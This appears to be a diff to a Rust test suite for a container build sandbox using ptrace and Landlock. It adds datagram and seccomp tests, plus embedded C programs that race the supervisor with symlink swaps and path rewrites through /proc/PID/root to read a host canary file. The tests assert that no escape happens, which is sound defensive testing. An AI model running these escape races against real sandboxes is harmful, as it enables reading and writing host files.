@@ -9,17 +9,8 @@ use std::fs;
 use std::os::unix::fs::MetadataExt;
 use std::path::Path;
 
-use common::{Env, TestResult, assert_ok, layers, stderr};
+use common::{Env, TestResult, assert_ok, layers, lines_with, stderr};
 use umstage_testutil::images;
-
-/// The words after the step prefix (`#N 0.012 `) of each output line that starts with `prefix`.
-fn lines_with<'a>(out: &'a str, prefix: &str) -> Vec<&'a str> {
-    out.lines()
-        .filter_map(|l| l.split_once(' ').map(|(_, rest)| rest))
-        .filter_map(|l| l.split_once(' ').map(|(_, rest)| rest))
-        .filter(|l| l.starts_with(prefix))
-        .collect()
-}
 
 /// A canary directory outside the step's root, holding one file; the step must not see it.
 struct Canary {
@@ -138,6 +129,62 @@ fn unix_sockets_are_bound_and_connected_in_the_root() -> TestResult {
     );
     assert_eq!(said[1..], ["socket rel.sock ok"], "{log}");
     canary.check(&log)
+}
+
+/// A datagram server at each path given, and three clients sending to it: `sendto`, `sendmsg`
+/// with the address in its header, and `connect` then `send`.
+const DATAGRAMS: &str = r#"#include <stdio.h>
+#include <string.h>
+#include <sys/socket.h>
+#include <sys/un.h>
+int main(int argc, char **argv) {
+  for (int p = 1; p < argc; p++) {
+    struct sockaddr_un a = {.sun_family = AF_UNIX};
+    strncpy(a.sun_path, argv[p], sizeof a.sun_path - 1);
+    int s = socket(AF_UNIX, SOCK_DGRAM, 0), c = socket(AF_UNIX, SOCK_DGRAM, 0);
+    int d = socket(AF_UNIX, SOCK_DGRAM, 0);
+    if (bind(s, (void *)&a, sizeof a)) perror("bind");
+    if (sendto(c, "to", 2, 0, (void *)&a, sizeof a) != 2) perror("sendto");
+    struct iovec v = {"msg", 3};
+    struct msghdr m = {.msg_name = &a, .msg_namelen = sizeof a, .msg_iov = &v, .msg_iovlen = 1};
+    if (sendmsg(c, &m, 0) != 3) perror("sendmsg");
+    if (connect(d, (void *)&a, sizeof a) || send(d, "conn", 4, 0) != 4) perror("connect");
+    char buf[8];
+    int n;
+    while ((n = recv(s, buf, sizeof buf, MSG_DONTWAIT)) > 0) printf("dgram %s %.*s\n", argv[p], n, buf);
+  }
+  return 0;
+}
+"#;
+
+#[test]
+fn unix_datagrams_are_sent_to_addresses_in_the_root() -> TestResult {
+    let env = Env::new()?;
+    let debian = with_debian(&env)?;
+    let dockerfile = "FROM debian\nCOPY dgram.c /src/\n\
+         RUN mkdir -p /srv && cd /srv && gcc -o /usr/local/bin/dgram /src/dgram.c \\\n\
+          && dgram /srv/d.sock r.sock\n";
+    let ctx = env.context("ctx", &[("Dockerfile", dockerfile), ("dgram.c", DATAGRAMS)])?;
+    let out = env.build(
+        &ctx,
+        "img.tar",
+        &["--sandbox", "ptrace", "--build-context", &debian],
+    );
+    let log = stderr(&out);
+    assert_ok(&out);
+    assert_eq!(
+        lines_with(&log, "dgram "),
+        [
+            "dgram /srv/d.sock to",
+            "dgram /srv/d.sock msg",
+            "dgram /srv/d.sock conn",
+            "dgram r.sock to",
+            "dgram r.sock msg",
+            "dgram r.sock conn"
+        ],
+        "{log}"
+    );
+    Ok(())
 }
 
 /// Every file of a root filesystem: type and mode, owner, content or symlink target.
@@ -308,6 +355,320 @@ fn fexecve_of_a_dynamic_program_loads_the_images_loader() -> TestResult {
         loader[0]["loader ".len()..],
         image[0]["guest ".len()..],
         "{log}"
+    );
+    Ok(())
+}
+
+/// A hostile step's first race: another thread swaps the directory `/race/d` for a symlink
+/// to a host directory (`renameat2` with `RENAME_EXCHANGE`) between the supervisor's
+/// resolution of `/race/d/...` and the kernel's walk of the host path it gave. It reads
+/// `/race/d/secret` and creates `/race/d/made` until both escaped or the rounds are done.
+const SWAP_C: &str = r#"#define _GNU_SOURCE
+#include <fcntl.h>
+#include <pthread.h>
+#include <stdatomic.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <unistd.h>
+static atomic_int done;
+static void *swapper(void *arg) {
+  (void)arg;
+  while (!atomic_load(&done))
+    syscall(SYS_renameat2, AT_FDCWD, "/race/d", AT_FDCWD, "/race/l", 2);
+  return 0;
+}
+int main(int argc, char **argv) {
+  if (argc != 3) return 2;
+  long rounds = atol(argv[2]), read_out = 0, made = 0, i;
+  mkdir("/race", 0755);
+  mkdir("/race/d", 0755);
+  int fd = open("/race/d/secret", O_WRONLY | O_CREAT | O_TRUNC, 0644);
+  if (fd < 0 || write(fd, "inside\n", 7) != 7) return 3;
+  close(fd);
+  if (symlink(argv[1], "/race/l")) return 4;
+  pthread_t t;
+  pthread_create(&t, 0, swapper, 0);
+  char buf[64];
+  /* The guest has one `made`: a second exclusive creation made one on the host. */
+  for (i = 0; i < rounds && !(read_out && made > 1); i++) {
+    fd = open("/race/d/secret", O_RDONLY);
+    if (fd >= 0) {
+      ssize_t n = read(fd, buf, sizeof buf - 1);
+      close(fd);
+      if (n > 0 && strncmp(buf, "inside", 6)) {
+        buf[n] = 0;
+        read_out++;
+        printf("swap read %s\n", buf);
+      }
+    }
+    fd = open("/race/d/made", O_WRONLY | O_CREAT | O_EXCL, 0644);
+    if (fd >= 0) {
+      close(fd);
+      made++;
+    }
+  }
+  atomic_store(&done, 1);
+  pthread_join(t, 0);
+  printf("swap rounds %ld read %ld made %ld\n", i, read_out, made > 1 ? made - 1 : 0);
+  return 0;
+}
+"#;
+
+/// A hostile step's second race: one thread reads `GUEST` in a loop on a stack of its own,
+/// and another overwrites the host path the supervisor wrote into that thread's scratch
+/// mapping with `TARGET` between the supervisor's write and the kernel's read.
+const REWRITE_C: &str = r#"#define _GNU_SOURCE
+#include <fcntl.h>
+#include <pthread.h>
+#include <stdatomic.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+#define STACK (1 << 20)
+static char *volatile sp;
+static atomic_int done;
+static const char *guest, *target;
+static long rounds, got, tries;
+static void *opener(void *arg) {
+  (void)arg;
+  char here;
+  sp = &here;
+  char buf[64];
+  for (tries = 0; tries < rounds && !got; tries++) {
+    int fd = open(guest, O_RDONLY);
+    if (fd < 0) continue;
+    ssize_t n = read(fd, buf, sizeof buf - 1);
+    close(fd);
+    if (n > 0 && strncmp(buf, "inside", 6)) {
+      buf[n] = 0;
+      got++;
+      printf("rewrite read %s\n", buf);
+    }
+  }
+  atomic_store(&done, 1);
+  return 0;
+}
+/* The translated path: a string that ends in the guest path (the snapshot's directory before
+   it) in an anonymous mapping, where the supervisor writes it. */
+static char *translated(void) {
+  FILE *maps = fopen("/proc/self/maps", "r");
+  char line[512], *found = 0;
+  size_t glen = strlen(guest);
+  while (maps && !found && fgets(line, sizeof line, maps)) {
+    unsigned long lo, hi;
+    char perms[5];
+    if (sscanf(line, "%lx-%lx %4s", &lo, &hi, perms) != 3 || strncmp(perms, "rw", 2)
+        || strchr(line, '/') || strchr(line, '['))
+      continue;
+    char *p = (char *)lo, *end = (char *)hi;
+    while (!found && (p = memmem(p, end - p, guest, glen))) {
+      if (p > (char *)lo && p[-1] && p + glen < end && !p[glen]) {
+        while (p > (char *)lo && p[-1]) p--;
+        found = p;
+      }
+      p++;
+    }
+  }
+  if (maps) fclose(maps);
+  return found;
+}
+static void *rewriter(void *arg) {
+  (void)arg;
+  while (!sp) ;
+  char *at = 0;
+  size_t len = strlen(target) + 1;
+  while (!atomic_load(&done)) {
+    if (!at) {
+      at = translated();
+      continue;
+    }
+    memcpy(at, target, len);
+  }
+  return 0;
+}
+int main(int argc, char **argv) {
+  if (argc != 4) return 2;
+  guest = argv[1];
+  target = argv[2];
+  rounds = atol(argv[3]);
+  FILE *f = fopen(guest, "w");
+  if (!f) return 3;
+  fputs("inside\n", f);
+  fclose(f);
+  pthread_attr_t attr;
+  pthread_attr_init(&attr);
+  pthread_attr_setstack(&attr, calloc(1, STACK), STACK);
+  pthread_t a, b;
+  pthread_create(&b, 0, rewriter, 0);
+  pthread_create(&a, &attr, opener, 0);
+  pthread_join(a, 0);
+  pthread_join(b, 0);
+  printf("rewrite %s rounds %ld escaped %ld\n", target, tries, got);
+  return 0;
+}
+"#;
+
+/// The races a hostile step runs against the supervisor, as the ptrace tier's documentation
+/// described them before Landlock: a symlink swapped in after the supervisor resolved a path,
+/// and the translated path rewritten from another thread, towards the canary directly and
+/// through `/proc/PID/root` of init, of the supervisor and of umstage itself. Landlock refuses
+/// every file outside the step's own, whatever path the kernel walks. Without it (measured on
+/// 2026-12-07) the swap read the canary and made a file beside it within 5 rounds, and the
+/// rewrite read it within 1 to 937, directly and through umstage's `root` (init's and the
+/// supervisor's are refused by their owner and dumpability anyway).
+#[test]
+fn racing_the_supervisor_reaches_no_host_file() -> TestResult {
+    let env = Env::new()?;
+    let canary = Canary::new(&env)?;
+    let c = canary.path();
+    let debian = with_debian(&env)?;
+    let dockerfile = format!(
+        "FROM debian\n\
+         COPY swap.c rewrite.c /src/\n\
+         RUN gcc -O2 -pthread -o /usr/local/bin/swap /src/swap.c \\\n\
+          && gcc -O2 -pthread -o /usr/local/bin/rewrite /src/rewrite.c\n\
+         RUN swap {c} 20000 && mkdir -p /race \\\n\
+          && sup=$PPID && umstage=$(cut -d' ' -f4 /proc/$sup/stat) \\\n\
+          && rewrite /race/victim {c}/secret 20000 \\\n\
+          && rewrite /race/victim /proc/1/root{c}/secret 20000 \\\n\
+          && rewrite /race/victim /proc/$sup/root{c}/secret 20000 \\\n\
+          && rewrite /race/victim /proc/$umstage/root{c}/secret 20000\n"
+    );
+    let ctx = env.context(
+        "ctx",
+        &[
+            ("Dockerfile", &dockerfile),
+            ("swap.c", SWAP_C),
+            ("rewrite.c", REWRITE_C),
+        ],
+    )?;
+    let out = env.build(
+        &ctx,
+        "img.tar",
+        &["--sandbox", "ptrace", "--build-context", &debian],
+    );
+    let log = stderr(&out);
+    assert_ok(&out);
+    // Each race ran all its rounds: none ended early by escaping.
+    assert_eq!(
+        lines_with(&log, "swap rounds "),
+        ["swap rounds 20000 read 0 made 0"],
+        "{log}"
+    );
+    let rewrites = lines_with(&log, "rewrite ");
+    assert_eq!(rewrites.len(), 4, "{log}");
+    for line in rewrites {
+        assert!(line.ends_with(" rounds 20000 escaped 0"), "{log}");
+    }
+    canary.check(&log)
+}
+
+/// Makes `cmd`'s process answer `landlock_create_ruleset` with `EPERM`, as a runtime's
+/// seccomp profile that does not list it does (the filter outlives `setpriv`'s exec).
+fn refuse_landlock(cmd: &mut std::process::Command) {
+    use std::os::unix::process::CommandExt;
+    // SAFETY: the closure runs between fork and exec and only makes system calls on memory
+    // of its own stack.
+    unsafe {
+        cmd.pre_exec(|| {
+            let jump = (libc::BPF_JMP | libc::BPF_JEQ | libc::BPF_K) as u16;
+            let ret = (libc::BPF_RET | libc::BPF_K) as u16;
+            let mut filter = [
+                libc::sock_filter {
+                    code: (libc::BPF_LD | libc::BPF_W | libc::BPF_ABS) as u16,
+                    jt: 0,
+                    jf: 0,
+                    k: 0,
+                },
+                libc::sock_filter {
+                    code: jump,
+                    jt: 0,
+                    jf: 1,
+                    k: libc::SYS_landlock_create_ruleset as u32,
+                },
+                libc::sock_filter {
+                    code: ret,
+                    jt: 0,
+                    jf: 0,
+                    k: libc::SECCOMP_RET_ERRNO | libc::EPERM as u32,
+                },
+                libc::sock_filter {
+                    code: ret,
+                    jt: 0,
+                    jf: 0,
+                    k: libc::SECCOMP_RET_ALLOW,
+                },
+            ];
+            let prog = libc::sock_fprog {
+                len: filter.len() as u16,
+                filter: filter.as_mut_ptr(),
+            };
+            if libc::prctl(libc::PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) != 0
+                || libc::syscall(
+                    libc::SYS_seccomp,
+                    libc::SECCOMP_SET_MODE_FILTER,
+                    0,
+                    &prog as *const libc::sock_fprog,
+                ) != 0
+            {
+                return Err(std::io::Error::last_os_error());
+            }
+            Ok(())
+        });
+    }
+}
+
+/// Where a seccomp profile refuses Landlock, a ptrace step runs as before, unconfined (it can
+/// signal its parent), and the build's tier line and `umstage doctor` say so, once, and why.
+#[test]
+fn without_landlock_steps_run_unconfined_and_the_build_says_why_once() -> TestResult {
+    let env = Env::new()?;
+    let ctx = env.context(
+        "ctx",
+        &[(
+            "Dockerfile",
+            "FROM busybox\nRUN kill -0 $PPID && echo 'signal allowed'\n",
+        )],
+    )?;
+    let bb = format!("busybox=oci-layout://{}", env.busybox.display());
+    let (root, out) = (env.path("state"), env.path("img.tar"));
+    let run = |args: &[&std::ffi::OsStr]| {
+        let mut cmd = env.dir.user().command(&env.bin);
+        cmd.args(args).env("XDG_DATA_HOME", env.path("xdg"));
+        refuse_landlock(&mut cmd);
+        cmd.output()
+    };
+    let built = run(&[
+        "build".as_ref(),
+        "--root".as_ref(),
+        root.as_os_str(),
+        "--progress".as_ref(),
+        "plain".as_ref(),
+        "--sandbox".as_ref(),
+        "ptrace".as_ref(),
+        "--build-context".as_ref(),
+        bb.as_ref(),
+        "-o".as_ref(),
+        out.as_os_str(),
+        ctx.as_os_str(),
+    ])?;
+    let log = stderr(&built);
+    assert_ok(&built);
+    let why = "not confined by Landlock: landlock_create_ruleset fails: Operation not permitted (os error 1) (a seccomp filter refuses it)";
+    let tier_line = log.lines().find(|l| l.starts_with("#0 sandbox ptrace: "));
+    assert!(tier_line.is_some_and(|l| l.ends_with(why)), "{log}");
+    assert_eq!(log.matches("not confined by Landlock").count(), 1, "{log}");
+    assert_eq!(lines_with(&log, "signal "), ["signal allowed"], "{log}");
+    let doctor = run(&["doctor".as_ref(), "--root".as_ref(), root.as_os_str()])?;
+    let said = String::from_utf8_lossy(&doctor.stdout).into_owned();
+    assert!(
+        said.lines()
+            .any(|l| l.starts_with("note landlock") && l.ends_with(why)),
+        "{said}"
     );
     Ok(())
 }
